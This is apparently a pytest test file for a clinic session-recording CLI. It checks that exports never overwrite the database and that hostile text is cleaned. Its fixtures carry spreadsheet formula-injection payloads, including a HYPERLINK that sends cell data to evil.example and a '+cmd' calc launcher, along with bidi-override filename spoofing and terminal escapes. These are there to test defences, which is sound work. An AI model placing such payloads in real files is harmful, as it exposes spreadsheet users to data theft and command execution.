"""Export and report never destroy the record; what they write is safe to open; every read error is one line."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from roomctl.cli.main import main
from roomctl.models import Quantity, SessionEvent, SessionEventKind, SessionState
from roomctl.report.clean import csv_cell
from roomctl.report.data import load
from roomctl.report.synthetic import fill_database
from roomctl.storage.database import Database, SessionRow
from roomctl.storage.rows import RowMaker
from roomctl.storage.schema import migrate
from tests.storage.helpers import T0, reading

COMMANDS = [["export"], ["export", "--format", "json"], ["report"]]
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"


@pytest.fixture
def room(tmp_path: Path) -> tuple[Path, str]:
    """A room's database with one short session, held open for writing as the daemon holds it."""
    path = tmp_path / "roomctl.db"
    db = Database(path)
    sid = fill_database(db, T0, hours=0.05, rate_hz=1.0, seed=3)
    db.close()
    return path, sid


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    return code, captured.err


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if ".part" in p.name]


def _out_name(command: list[str]) -> str:
    return "out.pdf" if command == ["report"] else "out.csv"


@pytest.mark.parametrize("command", COMMANDS)
def test_the_live_database_is_never_written_over(
    room: tuple[Path, str], command: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path, sid = room
    live = Database(path)  # the daemon's connection, writing
    before = path.read_bytes()
    (tmp_path / "link.pdf").symlink_to(path)
    os.link(path, tmp_path / "hard.csv")
    targets = [path, tmp_path / "link.pdf", tmp_path / "hard.csv", path.with_name(path.name + "-wal")]
    for target in targets:
        for force in ([], ["--force"]):
            code, err = _run(
                ["session", *command[:1], sid, "--db", str(path), "-o", str(target), *command[1:], *force], capsys
            )
            assert code == 1
            assert "that is the room's database" in err or "is an SQLite database" in err, err
    assert path.read_bytes() == before
    assert live.integrity_check() == "ok"
    assert live.count("readings") > 0
    assert _leftovers(tmp_path) == []
    live.close()


@pytest.mark.parametrize("command", COMMANDS)
def test_no_sqlite_file_is_written_over_even_with_force(
    room: tuple[Path, str], command: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path, sid = room
    other = tmp_path / _out_name(command)  # an SQLite file whatever its name says
    Database(other).close()
    before = other.read_bytes()
    code, err = _run(
        ["session", *command[:1], sid, "--db", str(path), "-o", str(other), *command[1:], "--force"], capsys
    )
    assert code == 1
    assert f"{other}: is an SQLite database; never written over, even with --force" in err
    assert other.read_bytes() == before


@pytest.mark.parametrize("command", COMMANDS)
def test_an_existing_file_is_replaced_only_with_force(
    room: tuple[Path, str], command: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path, sid = room
    out = tmp_path / _out_name(command)
    out.write_text("the clinic's earlier export\n")
    argv = ["session", *command[:1], sid, "--db", str(path), "-o", str(out), *command[1:]]
    code, err = _run(argv, capsys)
    assert code == 1
    assert f"{out}: exists; give another name, or --force to replace it" in err
    assert out.read_text() == "the clinic's earlier export\n"
    code, _err = _run([*argv, "--force"], capsys)
    assert code == 0
    assert out.read_bytes()[:4] in (b"%PDF", b"ts,r", b'{"fo')
    assert oct(out.stat().st_mode & 0o777) == oct(0o666 & ~_umask())  # a plain file's mode, not mkstemp's 0600
    assert _leftovers(tmp_path) == []


def _umask() -> int:
    mask = os.umask(0o22)
    os.umask(mask)
    return mask


def test_a_failed_export_leaves_no_file_and_no_part(
    room: tuple[Path, str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path, sid = room
    _damage_a_readings_page(path)  # opening works; reading the rows fails half way
    out = tmp_path / "out.csv"
    code, err = _run(["session", "export", sid, "--db", str(path), "-o", str(out)], capsys)
    assert code == 1
    assert err.count("\n") == 1
    assert "cannot read the database" in err
    assert not out.exists()
    assert _leftovers(tmp_path) == []


def _damage_a_readings_page(path: Path) -> None:
    with contextlib.closing(sqlite3.connect(path)) as conn:
        (page,) = conn.execute(
            "SELECT MAX(pageno) FROM dbstat WHERE name = 'readings' AND pagetype = 'leaf'"
        ).fetchone()
    with path.open("r+b") as f:
        f.seek((page - 1) * 4096)
        f.write(os.urandom(4096))


def _damage_pages(path: Path, first: int) -> None:
    size = path.stat().st_size
    with path.open("r+b") as f:
        f.seek(first * 4096)
        f.write(os.urandom(size - first * 4096))


@pytest.mark.parametrize("damage", ["truncated", "zeroed header", "random pages", "random bytes", "empty"])
@pytest.mark.parametrize("command", [["list"], ["export", "x"], ["report", "x"]])
def test_a_damaged_database_is_one_line_never_a_traceback(
    room: tuple[Path, str], damage: str, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    path, _sid = room
    data = path.read_bytes()
    match damage:
        case "truncated":
            path.write_bytes(data[: len(data) // 3 + 100])
        case "zeroed header":
            path.write_bytes(bytes(100) + data[100:])
        case "random pages":
            _damage_pages(path, first=2)
        case "random bytes":
            path.write_bytes(os.urandom(len(data)))
        case "empty":
            path.write_bytes(b"")
    code, err = _run(["session", *command, "--db", str(path)], capsys)
    assert code == 1
    assert err.startswith(f"roomctl: {path}")
    assert err.count("\n") == 1, err


NOBODY = 65534
AS_NOBODY = """
import os, sys
import roomctl.cli.main as cli
cli.build_parser()  # everything the command imports, while the interpreter's own files can still be read
import roomctl.storage.database, roomctl.report.export, roomctl.report.output, roomctl.report.data, roomctl.config
import roomctl.report.render
os.setegid(65534)
os.seteuid(65534)
sys.exit(cli.main(sys.argv[1:]))
"""


@pytest.fixture
def open_folder() -> Iterator[Path]:
    """A folder any user may enter (pytest's own are 0700 root)."""
    folder = Path(tempfile.mkdtemp(prefix="roomctl-access-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.mark.parametrize("closed", ["folder", "file"])
@pytest.mark.parametrize("command", [["list"], ["export", "x"], ["report", "x"]])
def test_a_staff_user_who_may_not_read_the_record_is_told_what_to_do(
    room: tuple[Path, str], closed: str, command: list[str], open_folder: Path
) -> None:
    state = open_folder / "state"
    state.mkdir(mode=0o700 if closed == "folder" else 0o755)  # the unit's StateDirectory is 0700 roomctl
    path = state / "roomctl.db"
    shutil.copy(room[0], path)
    path.chmod(0o600 if closed == "file" else 0o644)
    done = subprocess.run(
        [sys.executable, "-c", AS_NOBODY, "session", *command, "--db", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert done.stderr == (
        f"roomctl: {path}: this user may not read the room's database; run the command as the roomctl user "
        "(runuser -u roomctl -- roomctl session ...) or as root\n"
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() -> None:
    assert csv_cell('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    for formula in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", "-"):
        assert csv_cell(formula).startswith("'"), formula
    for number in ("-1.5", "+3", "-2e-3", "42", ".5"):
        assert csv_cell(number) == number
    assert csv_cell(-1.5) == -1.5
    assert csv_cell(None) is None
    assert csv_cell(f"a{RLO}b{LRI}c{PDI}\x07d\x1b[2Je") == "abcd[2Je"
    assert csv_cell("two\nlines\tand a tab") == "two\nlines\tand a tab"


HOSTILE_NOTE = f'=HYPERLINK("http://evil.example/?"&A1,"open"){RLO}txt.exe\x07\x1b[31m'
HOSTILE_LABEL = f"Peak{RLO} \x08effects"


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, str]:
    """A session whose note, phase label and device carry formulas, control characters and bidi overrides."""
    path = tmp_path / "roomctl.db"
    db = Database(path)
    maker = RowMaker("s1")
    start = SessionEvent(id="s", session="s1", event=SessionEventKind.SESSION_START, ts=T0, data={"phase": "peak"})
    note = SessionEvent(id="n1", session="s1", event=SessionEventKind.NOTE, ts=T0, text=HOSTILE_NOTE, data={})
    cold = reading(0, ts=T0 + timedelta(seconds=1), quantity=Quantity.TEMPERATURE).model_copy(update={"value": -1.5})
    odd = reading(1, ts=T0 + timedelta(seconds=2), device=f"@strap{RLO}\x00")
    db.write_batch([r for e in (start, note, cold, odd) if (r := maker.make(e, 0)) is not None], 0)
    meta = {"phases": [{"id": "peak", "label": HOSTILE_LABEL}]}
    row = SessionRow("s1", "dosing", T0.timestamp(), T0.timestamp() + 60, SessionState(id="s1").model_dump_json(), meta)
    db.save_session(row)
    db.close()
    return path, "s1"


def test_csv_export_of_hostile_text(hostile: tuple[Path, str], tmp_path: Path) -> None:
    path, sid = hostile
    out = tmp_path / "s.csv"
    assert main(["session", "export", sid, "--db", str(path), "-o", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    by_name = {r[2]: r for r in rows[1:]}
    assert by_name["note"][7] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")txt.exe[31m'
    assert by_name["temperature"][3] == "-1.5"  # a number, not "'-1.5"
    assert by_name["heart_rate"][5] == "'@strap"
    text = out.read_text(encoding="utf-8")
    assert not any(c in text for c in (RLO, "\x07", "\x1b", "\x00"))


def test_json_export_of_hostile_text(hostile: tuple[Path, str], tmp_path: Path) -> None:
    path, sid = hostile
    out = tmp_path / "s.json"
    assert main(["session", "export", sid, "--db", str(path), "--format", "json", "-o", str(out)]) == 0
    data = json.loads(out.read_text(encoding="utf-8"))
    _start, note = data["events"]
    assert note["text"] == '=HYPERLINK("http://evil.example/?"&A1,"open")txt.exe[31m'  # JSON has no formulas
    assert data["session"]["phases"] == [{"id": "peak", "label": "Peak effects"}]
    assert {r["device"] for r in data["readings"]} == {"strap", "@strap"}
    decoded = json.dumps(data, ensure_ascii=False)
    assert not any(c in decoded for c in (RLO, "\x07", "\x1b", "\x00", "\x08"))


def test_the_report_shows_hostile_text_cleaned(hostile: tuple[Path, str], tmp_path: Path) -> None:
    path, sid = hostile
    record = load(Database(path, readonly=True), sid)
    assert [e.text for e in record.events] == [None, '=HYPERLINK("http://evil.example/?"&A1,"open")txt.exe[31m']
    assert [p.label for p in record.phases] == ["Peak effects"]
    out = tmp_path / "s.pdf"
    assert main(["session", "report", sid, "--db", str(path), "-o", str(out)]) == 0
    assert out.read_bytes()[:4] == b"%PDF"


def test_a_device_or_fifo_is_never_replaced(
    room: tuple[Path, str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path, sid = room
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for target in (Path("/dev/null"), fifo):
        code, err = _run(["session", "export", sid, "--db", str(path), "-o", str(target), "--force"], capsys)
        assert code == 1
        assert f"{target}: is not a regular file" in err
    assert Path("/dev/null").is_char_device()
    assert fifo.is_fifo()


@pytest.mark.parametrize("target", ["the database", "another database"])
def test_standard_output_appended_to_a_database_is_refused(room: tuple[Path, str], tmp_path: Path, target: str) -> None:
    """``roomctl session export ID >> roomctl.db`` (no truncation by the shell): nothing is written to it."""
    path, sid = room
    out = path if target == "the database" else tmp_path / "other.db"
    if out != path:
        Database(out).close()
    before = out.read_bytes()
    with out.open("ab") as stdout:
        done = subprocess.run(
            [sys.executable, "-m", "roomctl", "session", "export", sid, "--db", str(path)],
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
            check=False,
        )
    assert done.returncode == 1
    assert done.stderr.startswith("roomctl: standard output is ")
    assert "Traceback" not in done.stderr
    assert out.read_bytes() == before


def test_a_database_from_an_older_roomctl_is_exported_through_an_upgraded_copy_untouched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A backup made before the latest schema (it lacks the newer tables): export, report and list read it, the file
    stays as it was (the music table of schema 3 made every older record fail as 'no such table')."""
    path = tmp_path / "backup.db"
    with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as conn:
        migrate(conn, target=2)
        state = SessionState(id="old1").model_dump_json()
        conn.execute(
            "INSERT INTO sessions (id, kind, started_at, ended_at, state) VALUES ('old1', 'dosing', ?, ?, ?)",
            (T0.timestamp(), T0.timestamp() + 60, state),
        )
        conn.execute(
            "INSERT INTO readings VALUES (1, ?, 'old1', 'strap', 'heart_rate', 71.0, 'bpm', 'ok')", (T0.timestamp(),)
        )
    before = path.read_bytes()
    out = tmp_path / "old.json"
    assert main(["session", "export", "old1", "--db", str(path), "--format", "json", "-o", str(out)]) == 0
    assert [r["value"] for r in json.loads(out.read_text())["readings"]] == [71.0]
    assert main(["session", "report", "old1", "--db", str(path), "-o", str(tmp_path / "old.pdf")]) == 0
    assert main(["session", "list", "--db", str(path)]) == 0
    captured = capsys.readouterr()
    assert f"{path}: written by an older roomctl (schema version 2); read through an upgraded copy" in captured.err
    assert "old1" in captured.out
    assert path.read_bytes() == before
    assert main(["session", "export", "old1", "--db", str(path), "-o", str(path), "--force"]) == 1  # still guarded
    assert path.read_bytes() == before
